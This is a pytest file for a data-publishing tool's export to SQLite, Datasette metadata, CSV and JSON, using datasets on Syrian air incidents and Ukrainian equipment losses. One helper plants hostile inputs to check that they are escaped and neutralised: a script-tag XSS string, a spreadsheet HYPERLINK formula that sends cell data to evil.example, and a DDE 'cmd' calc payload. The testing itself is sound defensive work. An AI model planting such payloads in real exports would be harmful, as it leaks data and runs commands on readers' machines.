"""``ddj export``: the SQLite file and metadata.json read through the real Datasette, the CSV/JSON files, bad input.

Datasette runs in-process (``Datasette(...).client``, its own test client: no port, no server to stop), on the
files the command wrote, and is asked what a reader's browser would ask through its JSON API.
"""

from __future__ import annotations

import asyncio
import csv
import json
import sqlite3

import polars as pl
import pytest

import ddj
from ddj.cli import main
from ddj.compare import STATUSES
from ddj.model import INCIDENT_RESOURCES
from ddj.publish import collect, datasette_metadata
from ddj.publish.tables import SILENCE_STATUSES
from tests.fixtures.minimal import write_package


def _export(tmp, dataset, *extra):
    db, meta = tmp / "data.db", tmp / "metadata.json"
    code = main(["export", str(dataset), "--sqlite", str(db), "--metadata", str(meta), *extra])
    assert code == 0
    return db, meta


def _ask(db, meta, *paths):
    """Each path's JSON (or, for a path without .json, the page's text) from Datasette serving ``db``."""
    from datasette.app import Datasette  # a second to import: here, not when every worker collects the suite

    async def go():
        server = Datasette([str(db)], metadata=json.loads(meta.read_text(encoding="utf-8")))
        await server.invoke_startup()
        out = []
        for path in paths:
            response = await server.client.get(path)
            assert response.status_code == 200, (path, response.text[:500])
            out.append(response.json() if ".json" in path else response.text)
        return out

    return asyncio.run(go())


# syria: the shipped package, from tests/conftest.py


@pytest.fixture(scope="module")
def syria_export(tmp_path_factory, syria):
    return _export(tmp_path_factory.mktemp("syria"), "syria-ru-aviation")


def test_datasette_lists_every_table_and_view(syria_export, syria):
    db, meta = syria_export
    (info,) = _ask(db, meta, "/data.json")
    tables = {t["name"] for t in info["tables"] if not t["hidden"]}
    assert {r.name for r in INCIDENT_RESOURCES} <= tables
    assert {"comparison_incidents", "comparison_attributes", "comparison_changes", "statuses"} <= tables
    assert {v["name"] for v in info["views"]} == {
        "incident_accounts",
        "contradictions",
        "official_silence",
        "accounts_with_sources",
    }
    counts = {t["name"]: t["count"] for t in info["tables"]}
    assert counts["incidents"] == syria.incidents.height and counts["accounts"] == syria.accounts.height


def test_a_facet_counts_what_the_data_holds(syria_export, syria):
    db, meta = syria_export
    (page,) = _ask(db, meta, "/data/accounts.json?_size=0")
    sides = {r["value"]: r["count"] for r in page["facet_results"]["side"]["results"]}
    expected = dict(syria.accounts.group_by("side").len().select(pl.col("side").cast(pl.String), "len").rows())
    assert sides == expected and sum(sides.values()) == syria.accounts.height


def test_foreign_keys_show_their_labels(syria_export, syria):
    db, meta = syria_export
    (page,) = _ask(db, meta, "/data/accounts.json?_labels=on&_shape=objects&account_id=acc-0001")
    row = page["rows"][0]
    incident = syria.incidents.filter(pl.col("incident_id") == row["incident_id"]["value"])
    source = syria.sources.filter(pl.col("source_id") == row["source_id"]["value"])
    assert row["incident_id"]["label"] == incident["title"].item()
    assert row["source_id"]["label"] == source["name"].item()


def test_full_text_search_over_titles_summaries_and_statements(syria_export, syria):
    db, meta = syria_export
    incidents, accounts = _ask(
        db,
        meta,
        "/data/incidents.json?_search=Saraqib&_shape=array",
        "/data/accounts.json?_search=parachute&_shape=array&_size=max",
    )
    words = pl.concat_str("title", "summary", pl.col("uncertainty").fill_null(""), separator=" ")
    expected = syria.incidents.filter(words.str.contains("(?i)saraqib"))["incident_id"].to_list()
    assert sorted(r["incident_id"] for r in incidents) == sorted(expected) and expected
    assert accounts and all(
        "parachut" in (r["statement"] + (r["notes"] or "") + (r["speaker"] or "")).lower() for r in accounts
    )


def test_views_through_the_json_api(syria_export, syria):
    db, meta = syria_export
    comparison = ddj.compare.compare(syria)
    side_by_side, contradictions, silence = _ask(
        db,
        meta,
        "/data/incident_accounts.json?_shape=array&_size=max",
        "/data/contradictions.json?_shape=array&_size=max",
        "/data/official_silence.json?_size=max",
    )
    assert len(side_by_side) == syria.incidents.height
    mi8 = next(r for r in side_by_side if r["incident_id"] == "syr-2016-08-01-mi8amtsh")
    assert mi8["official_accounts"] and mi8["unofficial_accounts"]
    for side, column in (("official", "official_accounts"), ("unofficial", "unofficial_accounts")):
        ids = syria.accounts.filter((pl.col("incident_id") == mi8["incident_id"]) & (pl.col("side") == side))
        assert all(f"({a})" in mi8[column] for a in ids["account_id"])
    expected = comparison.attributes.filter(pl.col("status") == "contradict")
    assert len(contradictions) == expected.height
    assert {(r["incident_id"], r["attribute"]) for r in contradictions} == set(
        expected.select("incident_id", pl.col("attribute").cast(pl.String)).rows()
    )
    silent = comparison.incidents.filter(
        pl.any_horizontal(pl.col(f"n_{s}") > 0 for s in SILENCE_STATUSES if s in STATUSES)
    )
    assert sorted(r[0] for r in silence["rows"]) == sorted(silent["incident_id"]) and silent.height
    statuses = {r["value"] for r in silence["facet_results"]["status"]["results"]}
    assert statuses <= set(SILENCE_STATUSES) and "official_silent" in statuses


def test_silence_view_selects_every_silence_status_the_comparison_has(tmp_path):
    folder = write_package(tmp_path / "pkg", lambda t: t["accounts"][2].update(cause="ground_attack"))
    publication = collect(ddj.load(folder, warn=False))  # no search for official statements declared
    view = next(v for v in publication.views if v.name == "official_silence")
    present = [s for s in SILENCE_STATUSES if s in STATUSES]
    assert present and all(f"'{s}'" in view.sql and s in view.description for s in present)
    conn = sqlite3.connect(":memory:")
    from ddj.publish.sqlite import build

    build(conn, publication)
    rows = conn.execute("SELECT incident_id, status FROM official_silence").fetchall()
    assert rows == [("inc-2", "no_official_record")]


def test_metadata_describes_every_column_with_the_model_text(syria_export, syria):
    _, meta_path = syria_export
    meta = json.loads(meta_path.read_text(encoding="utf-8"))
    assert meta["title"] == syria.descriptor["title"]
    assert meta["license"] == "Creative Commons Attribution 4.0 International"
    assert meta["license_url"].startswith("https://creativecommons.org/")
    tables = meta["databases"]["data"]["tables"]
    for resource in INCIDENT_RESOURCES:
        assert tables[resource.name]["columns"] == {f.name: f.description for f in resource.fields}
    conn = sqlite3.connect(meta_path.with_name("data.db"))
    for name, entry in tables.items():
        columns = [r[1] for r in conn.execute(f'PRAGMA table_info("{name}")')]
        assert set(entry["columns"]) == set(columns), f"{name}: columns without a description"
        assert set(entry.get("facets", [])) <= set(columns), name
    assert tables["incidents"]["label_column"] == "title" and tables["sources"]["label_column"] == "name"
    wanted = {"side", "status", "grade", "cause", "country", "year", "kind"}
    assert wanted <= {f for entry in tables.values() for f in entry.get("facets", [])}


def test_the_database_has_keys_indexes_and_search_as_sqlite_utils_reads_them(syria_export):
    sqlite_utils = pytest.importorskip("sqlite_utils")
    db = sqlite_utils.Database(syria_export[0])
    accounts = db["accounts"]
    assert accounts.pks == ["account_id"]
    assert {(fk.column, fk.other_table, fk.other_column) for fk in accounts.foreign_keys} == {
        ("incident_id", "incidents", "incident_id"),
        ("source_id", "sources", "source_id"),
        ("supersedes_account_id", "accounts", "account_id"),
    }
    assert {tuple(i.columns) for i in accounts.indexes} >= {("incident_id",), ("source_id",)}
    assert db["comparison_attributes"].pks == ["incident_id", "attribute"]
    assert accounts.detect_fts() == "accounts_fts" and db["incidents"].detect_fts() == "incidents_fts"
    assert accounts.columns_dict["crew_killed_best"] is int and accounts.columns_dict["statement"] is str
    grades = [r["grade"] for r in db.query("SELECT grade FROM comparison_incidents")]
    assert grades and set(grades) <= set(ddj.compare.GRADES)


def test_tally_dataset_exports_with_each_part_under_its_own_licence(tmp_path):
    ds = ddj.load("ukraine-equipment-losses", warn=False)
    db, meta_path = _export(tmp_path, "ukraine-equipment-losses")
    tables = json.loads(meta_path.read_text(encoding="utf-8"))["databases"]["data"]["tables"]
    assert set(ds.tables) | {"tally_series"} <= set(tables)
    official, documented = tables["official_series"], tables["documented_series"]
    assert official["license"].startswith("MIT") and "General Staff" in official["source"]
    assert official["source_url"] == "https://github.com/PetroIvaniuk/2022-Ukraine-Russia-War-Dataset"
    assert documented["license"].startswith("Creative Commons") and "Oryx" in documented["source"]
    assert documented["license_url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert official["columns"]["value"] == "Cumulative total the officials claim on that day."
    for name, frame in [*ds.tables.items(), ("tally_series", ddj.tally.tally_series(ds))]:
        assert set(tables[name]["columns"]) == set(frame.columns), f"{name}: columns without a description"
    (page,) = _ask(db, meta_path, "/data/documented_series.json?_size=0")
    statuses = {r["value"]: r["count"] for r in page["facet_results"]["status"]["results"]}
    assert statuses == dict(ds.table("documented_series").group_by("status").len().rows())


def _hostile(tables):
    tables["incidents"][0]["title"] = "<script>alert('x')</script>"
    tables["incidents"][0]["summary"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    tables["accounts"][0]["statement"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    tables["sources"][0]["name"] = "+Ministry"


def test_untrusted_text_is_escaped_by_datasette_and_neutralised_in_csv(tmp_path):
    folder = write_package(tmp_path / "pkg", _hostile)
    db, meta = _export(tmp_path, folder, "--csv", str(tmp_path / "csv"), "--json", str(tmp_path / "json"))
    (page,) = _ask(db, meta, "/data/incidents")
    assert "<script>alert('x')</script>" not in page and "&lt;script&gt;" in page
    with open(tmp_path / "csv" / "incidents.csv", encoding="utf-8", newline="") as handle:
        incidents = list(csv.DictReader(handle))
    assert incidents[0]["title"] == "<script>alert('x')</script>"  # not a formula: unchanged
    assert incidents[0]["summary"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    with open(tmp_path / "csv" / "accounts.csv", encoding="utf-8", newline="") as handle:
        accounts = list(csv.DictReader(handle))
    assert accounts[0]["statement"].startswith("'@") and accounts[0]["crew_killed_best"] == ""
    with open(tmp_path / "csv" / "accounts_with_sources.csv", encoding="utf-8", newline="") as handle:
        assert next(csv.DictReader(handle))["source"] == "'+Ministry"
    stored = sqlite3.connect(db).execute("SELECT summary FROM incidents WHERE incident_id = 'inc-1'").fetchone()[0]
    raw = json.loads((tmp_path / "json" / "incidents.json").read_text(encoding="utf-8"))
    assert stored == raw[0]["summary"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'  # data kept as given


def test_csv_and_json_hold_the_same_tables_and_views(tmp_path, syria):
    assert main(["export", "syria-ru-aviation", "--csv", str(tmp_path / "c"), "--json", str(tmp_path / "j")]) == 0
    publication = collect(syria)
    assert sorted(p.stem for p in (tmp_path / "c").glob("*.csv")) == sorted(publication.names)
    assert sorted(p.stem for p in (tmp_path / "j").glob("*.json")) == sorted(publication.names)
    attributes = json.loads((tmp_path / "j" / "comparison_attributes.json").read_text(encoding="utf-8"))
    assert len(attributes) == publication.table("comparison_attributes").frame.height
    assert isinstance(attributes[0]["official_values"], list)
    with open(tmp_path / "c" / "accounts.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == syria.accounts.height and rows[0]["published_date"].count("-") == 2


def test_metadata_is_built_from_the_publication_without_markup(syria):
    meta = datasette_metadata(collect(syria), "syria")
    text = json.dumps(meta)
    assert "description_html" not in text and "syria" in meta["databases"]


# --- bad input: one line, exit 2, nothing half-written -----------------------------------------------------


def _one_line_error(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert err.startswith("ddj export: error:") and "\n" not in err and "Traceback" not in err, err
    return err


def test_an_invalid_dataset_is_one_line_and_writes_nothing(tmp_path, capsys):
    folder = write_package(tmp_path / "pkg", lambda t: t["accounts"][0].update(side="officail"))
    assert main(["export", str(folder), "--sqlite", str(tmp_path / "x.db")]) == 2
    assert "not a valid dataset" in _one_line_error(capsys) and not (tmp_path / "x.db").exists()


def test_an_unknown_dataset_is_one_line(tmp_path, capsys):
    assert main(["export", "no-such-dataset", "--sqlite", str(tmp_path / "x.db")]) == 2
    _one_line_error(capsys)


def test_an_unwritable_path_is_one_line(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    assert main(["export", "syria-ru-aviation", "--sqlite", str(blocker / "x.db")]) == 2
    assert "cannot write" in _one_line_error(capsys)
    assert main(["export", "syria-ru-aviation", "--csv", str(blocker)]) == 2
    assert "not a folder" in _one_line_error(capsys)
    assert main(["export", "syria-ru-aviation", "--sqlite", str(tmp_path)]) == 2
    assert "it is a folder" in _one_line_error(capsys)


def test_an_existing_file_needs_force(tmp_path, capsys):
    db = tmp_path / "x.db"
    db.write_bytes(b"keep me")
    assert main(["export", "syria-ru-aviation", "--sqlite", str(db)]) == 2
    assert "--force" in _one_line_error(capsys) and db.read_bytes() == b"keep me"
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "incidents.csv").write_text("keep", encoding="utf-8")
    assert main(["export", "syria-ru-aviation", "--csv", str(tmp_path / "c")]) == 2
    assert "--force" in _one_line_error(capsys)
    assert main(["export", "syria-ru-aviation", "--sqlite", str(db), "--force"]) == 0
    assert sqlite3.connect(db).execute("SELECT count(*) FROM incidents").fetchone()[0] > 0


def test_options_that_cannot_work_are_one_line(tmp_path, capsys):
    assert main(["export", "syria-ru-aviation"]) == 2
    assert "--sqlite" in _one_line_error(capsys)
    assert main(["export", "syria-ru-aviation", "--metadata", str(tmp_path / "m.json")]) == 2
    assert "--sqlite" in _one_line_error(capsys)


def test_a_failure_part_way_leaves_the_previous_file(tmp_path, monkeypatch):
    import ddj.publish.sqlite as sqlite_module

    db = tmp_path / "x.db"
    db.write_bytes(b"previous")

    def broken(conn, publication, **kwargs):
        conn.execute("CREATE TABLE half (x)")
        raise sqlite3.OperationalError("disk I/O error")

    monkeypatch.setattr(sqlite_module, "build", broken)
    assert main(["export", "syria-ru-aviation", "--sqlite", str(db), "--force"]) == 2
    assert db.read_bytes() == b"previous" and sorted(p.name for p in tmp_path.iterdir()) == ["x.db"]
